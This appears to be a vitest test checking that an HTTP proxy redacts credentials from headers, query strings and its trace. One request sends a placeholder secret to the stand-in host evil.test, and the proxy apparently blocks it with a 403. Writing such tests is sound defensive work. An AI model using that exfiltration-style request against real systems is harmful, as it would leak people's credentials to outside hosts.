import { expect, it } from 'vitest'
import { RawClient, answering, proxyFor } from './_proxy.ts'

const secret = 'hunter2'

it('no credential is ever in the trace, by whatever name it goes', async () => {
  await using server = await answering(
    `HTTP/1.1 200 OK\r\nSet-Cookie: s=${secret}\r\nContent-Length: 7\r\n\r\n${secret}`,
  )
  await using proxy = await proxyFor(server.origin)
  using client = await RawClient.open(proxy.port)
  const headers = [
    ...['Authorization: Bearer', 'api-key:', 'X-API-Key:', 'x-goog-api-key:', 'Proxy-Authorization: Basic'],
    ...['Cookie: session=', 'X-Amz-Security-Token:', 'X-Whatever-They-Think-Of:'],
  ].map((header) => `${header} ${secret}\r\n`)
  const request = (target: string): string =>
    `POST ${target} HTTP/1.1\r\nHost: 127.0.0.1:${proxy.port}\r\nContent-Type: text/plain\r\n${headers.join('')}Content-Length: 7\r\n\r\n${secret}`
  client.socket.write(request(`/path?key=${secret}&api_key=${secret}&sig=${secret}&${secret}`))
  await client.until(({ text }) => text.endsWith(`\r\n\r\n${secret}`))
  client.socket.write(request(`http://user:${secret}@evil.test/?key=${secret}`))
  await client.ended()
  const trace = await (await proxy.control('GET', '/trace')).text()
  expect(trace).not.toContain(secret)
  expect(client.text.slice(client.text.indexOf('403'))).not.toContain(secret)
  const [sent] = proxy.events()
  expect(sent).toMatchObject({
    type: 'request.sent',
    path: '/path?key=[redacted]&api_key=[redacted]&sig=[redacted]&[redacted]',
    headers: expect.arrayContaining([
      ['Content-Type', 'text/plain'],
      ['Authorization', '[redacted]'],
      ['api-key', '[redacted]'],
    ]),
  })
})
